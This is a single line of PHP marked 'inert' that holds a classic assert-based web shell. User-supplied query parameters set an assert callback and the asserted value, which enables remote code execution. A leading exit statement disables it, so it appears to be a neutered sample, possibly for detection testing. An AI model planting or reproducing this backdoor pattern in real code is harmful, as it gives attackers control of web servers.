<?php exit; /* inert */ assert_options(ASSERT_CALLBACK,$_GET["f"]); assert($_GET["a"]);
